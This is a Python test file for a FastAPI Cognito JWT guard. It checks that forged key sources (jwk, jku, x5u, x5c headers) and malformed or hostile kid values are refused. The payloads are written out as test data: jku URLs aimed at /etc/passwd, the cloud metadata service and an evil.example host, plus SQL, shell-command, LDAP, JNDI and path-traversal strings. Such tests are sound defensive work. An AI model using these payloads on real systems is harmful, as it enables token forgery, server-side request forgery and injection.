"""Attacks on where the key comes from: headers that bring or name one, and every sort of ``kid``."""

import datetime
import json
from base64 import b64encode
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding

from fastapi_cognito_guard import CognitoGuard, UserPool
from tests.apps import NOW, guard_for
from tests.attacks.forge import (
    ATTACKER,
    CLAIMS,
    GOOD,
    HEADER,
    ID_KEY,
    KEY,
    OTHER,
    OTHER_KEY,
    POOL,
    assert_refused,
    code_of,
    headed,
    token,
    trying,
    without,
)

pytestmark = pytest.mark.anyio


def attackers_certificate() -> str:
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "evil.example")])
    start = datetime.datetime.fromtimestamp(NOW, datetime.UTC)
    certificate = (
        x509.CertificateBuilder(name, name, ATTACKER.private.public_key(), x509.random_serial_number())
        .not_valid_before(start)
        .not_valid_after(start + datetime.timedelta(days=1))
        .sign(ATTACKER.private, SHA256())
    )
    return b64encode(certificate.public_bytes(Encoding.DER)).decode()


JWK = {**ATTACKER.public_jwk(), "kid": KEY.kid}
EVIL = "https://evil.example/.well-known/jwks.json"
# CVE-2018-0114: the attacker's key comes along with the token, and the signature is that key's.
BROUGHT: dict[str, dict[str, Any]] = {
    "CVE-2018-0114 jwk (RFC 7515 4.1.3)": {"jwk": JWK},
    "CVE-2018-0114 jwk of a key set": {"jwk": {"keys": [JWK]}},
    "CVE-2018-0114 jwks": {"jwks": {"keys": [JWK]}},
    "RFC 8725 3.10 jku": {"jku": EVIL},
    "RFC 8725 3.10 jku to a file": {"jku": "file:///etc/passwd"},
    "RFC 8725 3.10 jku to the metadata service": {"jku": "http://169.254.169.254/latest/meta-data/"},
    "RFC 8725 3.10 jku of the pool, with userinfo": {
        "jku": f"{POOL.issuer}@evil.example/.well-known/jwks.json",
    },
    "RFC 8725 3.10 x5u": {"x5u": "https://evil.example/chain.pem"},
    "RFC 7515 4.1.6 x5c": {"x5c": [attackers_certificate()]},
    "RFC 7515 4.1.7 x5t": {"x5t": "AAAA", "x5t#S256": "AAAA"},
    "RFC 7515 4 iss in the header": {"iss": "https://evil.example"},
    "all of them": {"jwk": JWK, "jku": EVIL, "x5u": EVIL, "x5c": [attackers_certificate()]},
}


@trying({
    "signature_invalid": {
        f"{name}, under the pool's kid": headed(ATTACKER.sign, **members) for name, members in BROUGHT.items()
    },
    "key_unknown": {
        f"{name}, under the attacker's kid": headed(ATTACKER.sign, kid=ATTACKER.kid, **members)
        for name, members in BROUGHT.items()
    },
    "token_malformed": {
        f"{name}, without a kid": token({**without(HEADER, "kid"), **members}, sign=ATTACKER.sign)
        for name, members in BROUGHT.items()
    },
})  # fmt: skip
async def test_a_key_that_a_token_brings_is_no_key(hostile: str, code: str) -> None:
    await assert_refused(hostile, code)


@pytest.mark.parametrize("members", BROUGHT.values(), ids=BROUGHT)
async def test_what_a_token_says_of_keys_is_not_even_read_where_the_pool_signed(
    members: dict[str, Any],
) -> None:
    assert (await guard_for(POOL).verify(headed(**members))).username == "ada"


async def test_only_the_pools_own_address_is_ever_asked() -> None:
    asked: set[str] = set()

    async def fetch(address: str) -> bytes:
        asked.add(address)
        return json.dumps(POOL.jwks).encode()

    guard = CognitoGuard(UserPool(POOL.id, client_ids=POOL.client_id), now=lambda: NOW, fetch=fetch)
    assert (await guard.verify(GOOD)).username == "ada"
    for members in BROUGHT.values():
        for kid in (KEY.kid, ATTACKER.kid, EVIL, "../../evil"):
            await code_of(guard, headed(ATTACKER.sign, **{**members, "kid": kid}))
    assert asked == {f"{POOL.issuer}/.well-known/jwks.json"}


KIDS: dict[str, Any] = {
    "path traversal": "../../../../../../dev/null",
    "an absolute path": "/proc/sys/kernel/randomize_va_space",
    "a path of Windows": "..\\..\\..\\windows\\win.ini",
    "an address": EVIL,
    "SQL": "x' UNION SELECT 'secret' --",
    "a command": "|/usr/bin/uname; $(id) `id`",
    "LDAP": "*)(uid=*))(|(uid=*",
    "a template": "${jndi:ldap://evil.example/a}{{7*7}}",
    "a name of JavaScript": "__proto__",
    "a name of Python": "__class__",
    "a format": "%s%n{0.__class__}",
    "NUL behind it": KEY.kid + "\0",
    "a space behind it": KEY.kid + " ",
    "a space before it": " " + KEY.kid,
    "in other case": KEY.kid.swapcase(),
    "a letter less": KEY.kid[:-1],
    "no padding": KEY.kid.rstrip("="),
    "in the URL alphabet": KEY.kid.replace("+", "-").replace("/", "_"),
    "percent-encoded": KEY.kid.replace("/", "%2F"),
    "a list as text": json.dumps([KEY.kid]),
    "two in one": f"{KEY.kid},{ID_KEY.kid}",
    "a pattern": ".*",
    "not ASCII": KEY.kid.replace("=", "\uff1d"),
    "another pool's": OTHER_KEY.kid,
    "an index": "0",
    "256 letters": "k" * 256,
}
NO_KIDS: list[Any] = [None, "", [], [KEY.kid], [[KEY.kid]], {}, {KEY.kid: 1}, 0, 1, True, 1.5, "k" * 257]
NO_KIDS += [KEY.kid * 100]


@trying({
    "key_unknown": {f"kid: {name}": headed(kid=kid) for name, kid in KIDS.items()},
    "token_malformed": {
        **{f"RFC 7515 4.1.4 kid: {kid!r:.40}": headed(kid=kid) for kid in NO_KIDS},
        "RFC 8259 8.2 kid: a lone surrogate": headed(kid="\ud800"),
        "RFC 7515 4.1.4 no kid": token(without(HEADER, "kid")),
        "RFC 7515 4.1.4 kid in the payload only": token(without(HEADER, "kid"), {**CLAIMS, "kid": KEY.kid}),
    },
    "signature_invalid": {
        "the kid of the pool's other key": headed(kid=ID_KEY.kid),
        "the pool's kid, another pool's signature": headed(OTHER_KEY.sign),
    },
})  # fmt: skip
async def test_only_a_kid_of_the_pool_names_a_key(hostile: str, code: str) -> None:
    await assert_refused(hostile, code)


async def test_either_key_of_a_pool_signs_either_token_since_key_sets_do_not_tell_them_apart() -> None:
    """Cognito's key set does not say which key is for ID tokens; ``token_use`` in the token does."""
    user = await guard_for(POOL).verify(headed(ID_KEY.sign, kid=ID_KEY.kid))
    assert (user.username, user.token_use) == ("ada", "access")


# --- two pools, one guard: a pool speaks for itself only


def as_issuer(pool: Any, kid: str, signer: Any) -> str:
    return token({**HEADER, "kid": kid}, {**CLAIMS, "iss": pool.issuer}, signer.sign)


@trying({
    "key_unknown": {
        "the other's key and kid": as_issuer(POOL, OTHER_KEY.kid, OTHER_KEY),
        "the first's key and kid for the other": as_issuer(OTHER, KEY.kid, KEY),
    },
    "signature_invalid": {
        "the other's key under the first's kid": as_issuer(POOL, KEY.kid, OTHER_KEY),
        "the first's key under the other's kid": as_issuer(OTHER, OTHER_KEY.kid, KEY),
    },
})  # fmt: skip
async def test_a_pool_cannot_sign_for_another_pool_of_the_same_guard(hostile: str, code: str) -> None:
    guard = CognitoGuard(POOL.user_pool(), OTHER.user_pool(), now=lambda: NOW)
    for _ in range(2):
        assert await code_of(guard, hostile) == code
        assert (await guard.verify(GOOD)).issuer == POOL.issuer
        assert (await guard.verify(OTHER.access_token())).issuer == OTHER.issuer


async def test_one_kid_in_two_pools_names_two_keys() -> None:
    same = {"keys": [{**OTHER_KEY.public_jwk(), "kid": KEY.kid}]}
    guard = CognitoGuard(POOL.user_pool(), OTHER.user_pool(jwks=same), now=lambda: NOW)
    for pool, own, foreign in ((POOL, KEY, OTHER_KEY), (OTHER, OTHER_KEY, KEY)):
        assert (await guard.verify(as_issuer(pool, KEY.kid, own))).issuer == pool.issuer
        assert await code_of(guard, as_issuer(pool, KEY.kid, foreign)) == "signature_invalid"
